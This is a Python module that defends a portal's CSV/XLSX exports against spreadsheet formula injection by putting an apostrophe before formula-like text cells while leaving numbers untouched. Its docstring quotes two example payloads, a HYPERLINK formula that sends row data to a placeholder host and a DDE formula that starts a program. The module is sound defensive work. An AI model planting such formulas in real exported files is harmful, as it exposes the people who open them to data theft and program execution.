"""Cells written to files people open in a spreadsheet (CSV exports): never run as a formula there.

Excel, LibreOffice and Google Sheets run a cell that starts with `=`, `+`, `-` or `@` as a formula ("CSV
injection": `=HYPERLINK("http://evil/?"&A1, "Click")` sends the row away, `=cmd|' /C calc'!A0` starts a
program), also after leading spaces or a tab/line break, and some builds take the full-width forms (＝ ＋ －
＠) too. `spreadsheet_safe` puts an apostrophe in front of such a text cell, which every spreadsheet shows
as text and does not display.

The rule for numbers: a number stays a number. Python numbers (int, float, Decimal; not bool) are written
as they are, and so is text that is nothing but a number (`-1`, `+2.5`, `-3e-4`, with surrounding spaces): a
spreadsheet reads it as that number, which cannot run anything, and an apostrophe would turn a negative
amount into text that no longer sums. Anything else starting with a formula character, `-1+1` included, is
prefixed. Every CSV/XLSX export of the portal writes its cells through this one function.
"""

from __future__ import annotations

import re
from decimal import Decimal

# The same two patterns serve Python (re) and Arrow (RE2) so that both ways of writing a CSV agree.
# A formula: a tab or line break first, or =, +, -, @ (ASCII or full-width) after optional blanks.
FORMULA_PATTERN = "^(?:[\t\r\n]|[ \t\r\n\x0b\x0c\u00a0\u3000]*[-=+@\uff1d\uff0b\uff0d\uff20])"
# Nothing but a number, maybe with spaces around: a spreadsheet reads it as that number.
NUMBER_PATTERN = r"^ *[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][+-]?[0-9]+)? *$"
_FORMULA = re.compile(FORMULA_PATTERN)
_NUMBER = re.compile(NUMBER_PATTERN.removesuffix("$"))


def is_formula(text: str) -> bool:
    """True when a spreadsheet could take `text` as a formula (see the module's rule for numbers)."""
    return bool(_FORMULA.match(text)) and not _NUMBER.fullmatch(text)


def spreadsheet_safe(value):
    """`value` as a CSV cell that no spreadsheet runs: numbers as they are, None as "", formula-like text with a
    leading apostrophe, anything else as its text."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(value)
    if isinstance(value, int | float | Decimal):
        return value
    text = value if isinstance(value, str) else str(value)
    return "'" + text if is_formula(text) else text


def spreadsheet_safe_table(table):
    """An Arrow table as `spreadsheet_safe` would write it: text columns (and the column names) neutralised,
    numbers, dates and booleans untouched. For CSV files written with pyarrow.csv."""
    import pyarrow as pa
    import pyarrow.compute as pc

    columns = []
    for column in table.columns:
        if pa.types.is_dictionary(column.type):
            column = column.cast(column.type.value_type)
        if pa.types.is_string(column.type) or pa.types.is_large_string(column.type):
            risky = pc.and_(pc.match_substring_regex(column, FORMULA_PATTERN),
                            pc.invert(pc.match_substring_regex(column, NUMBER_PATTERN)))
            prefixed = pc.binary_join_element_wise(pa.scalar("'", column.type), column, pa.scalar("", column.type))
            column = pc.if_else(pc.fill_null(risky, False), prefixed, column)
        columns.append(column)
    names = [str(spreadsheet_safe(name)) for name in table.column_names]
    return pa.table(columns, names=names)
